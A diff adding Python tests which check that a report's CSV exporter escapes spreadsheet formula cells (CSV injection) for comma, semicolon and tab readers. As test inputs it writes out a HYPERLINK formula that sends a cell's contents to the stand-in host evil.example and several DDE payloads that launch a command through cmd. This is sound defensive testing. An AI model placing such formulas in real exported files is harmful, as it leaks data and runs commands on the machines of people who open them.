@@ -7,9 +7,11 @@ import csv
 import io
 import json
 import re
+from dataclasses import replace
 from html import escape
 from itertools import pairwise
 from pathlib import Path
+from typing import Any
 
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -77,6 +79,109 @@ def test_csv_names_the_section_that_holds_a_nested_metric(nested_report: Report)
     sections = {row[0]: row[1] for row in rows[1:]}
     assert sections["gdp"] == "economy"
     assert sections["industry-output"] == "industry"
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What makes a spreadsheet read a cell as a formula (OWASP, CSV injection)."""
+
+
+def metric_row(**fields: Any) -> Report:
+    """A report of one metric with these fields, unvalidated: an exporter must cope with any."""
+    metric = replace(Metric(id="m", label="L", value=1.0, unit="", quote="Q", paragraph="p"), **fields)
+    return Report("T", "zh-CN", (Section("s", "S", (Paragraph("p", "Q"),), metrics=(metric,)),))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
+    report = metric_row(
+        label='=HYPERLINK("http://evil.example/?q="&A1,"点击")',
+        quote="=cmd|' /C calc'!A0",
+        unit="@SUM(1+1)*cmd|' /C calc'!A0",
+        id="-2+3",
+        group="+1",
+        value=-3.5,
+    )
+    [header, row] = csv_rows(export_csv(report))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["label"] == '\'=HYPERLINK("http://evil.example/?q="&A1,"点击")'
+    assert cells["quote"] == "'=cmd|' /C calc'!A0"
+    assert cells["unit"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["id"] == "'-2+3"
+    assert cells["group"] == "'+1"
+    # A number is a number: unquoted, without the quote mark, as a spreadsheet reads -3.5.
+    assert cells["value"] == "-3.5"
+    assert b",-3.5," in export_csv(report)
+
+
+def test_csv_tab_and_carriage_return_at_a_cell_start_are_text() -> None:
+    [_, row] = csv_rows(export_csv(metric_row(label="\tx", quote="\rx")))
+    assert (row[2], row[7]) == ("'\tx", "'\rx")
+    # Read with tabs or line breaks as separators, "=1+1" would start a cell of its own.
+    [_, row] = csv_rows(export_csv(metric_row(label="\t=1+1", quote="\r=1+1")))
+    assert (row[2], row[7]) == ("'\t'=1+1", "'\r'=1+1")
+
+
+def test_csv_text_that_starts_no_formula_is_as_written(bundled_report: Report) -> None:
+    rows = csv_rows(export_csv(bundled_report))
+    assert [row[2] for row in rows[1:]] == [metric.label for metric in bundled_report.metrics]
+    assert [row[7] for row in rows[1:]] == [metric.quote for metric in bundled_report.metrics]
+
+
+def cells_read_with(data: bytes, delimiter: str) -> list[str]:
+    return [
+        cell
+        for row in csv.reader(io.StringIO(data[3:].decode(), newline=""), delimiter=delimiter)
+        for cell in row
+    ]
+
+
+def cells_split_at_every_separator(data: bytes) -> list[str]:
+    """The cells of a reader that knows no quoting at all and splits wherever it could."""
+    return [cell.lstrip('"') for cell in re.split(r"[,;\t\r\n]", data[3:].decode())]
+
+
+def is_formula(cell: str) -> bool:
+    """As a spreadsheet reads a cell: white space before a formula does not stop it; a number
+    with a sign is a number."""
+    start = cell.lstrip("\t\r\n")
+    if not start.startswith(("=", "+", "-", "@")):
+        return False
+    try:
+        float(start)
+    except ValueError:
+        return True
+    return False
+
+
+# Text with what breaks a CSV cell or starts a formula, much more often than by chance.
+csv_texts = st.lists(
+    st.characters(exclude_categories=("Cs",))
+    | st.sampled_from([*FORMULA_STARTS, ",", ";", '"', "'", "\n", "|"]),
+    max_size=12,
+).map("".join)
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    label=csv_texts, quote=csv_texts, unit=csv_texts, value=st.floats(allow_nan=False, allow_infinity=False)
+)
+def test_no_reading_of_the_csv_finds_a_formula(label: str, quote: str, unit: str, value: float) -> None:
+    data = export_csv(metric_row(label=label, quote=quote, unit=unit, value=value))
+    [header, row] = csv_rows(data)
+    cells = dict(zip(header, row, strict=True))
+    for name, text in (("label", label), ("quote", quote), ("unit", unit)):
+        # The report's text, with at most a quote mark put before what would start a formula.
+        assert cells[name].replace("'", "") == text.replace("'", ""), name
+        if not any(start in text for start in FORMULA_STARTS):
+            assert cells[name] == text, name
+    assert float(cells["value"]) == value
+    # A spreadsheet that expects ; or tabs (as in much of Europe) reads other cells: none
+    # may start a formula either, nor may one that splits at every separator it could.
+    for read in (
+        cells_read_with(data, ";"),
+        cells_read_with(data, "\t"),
+        cells_split_at_every_separator(data),
+    ):
+        assert [cell for cell in read if is_formula(cell)] == []
 
 
 # -- JSON ------------------------------------------------------------------------------
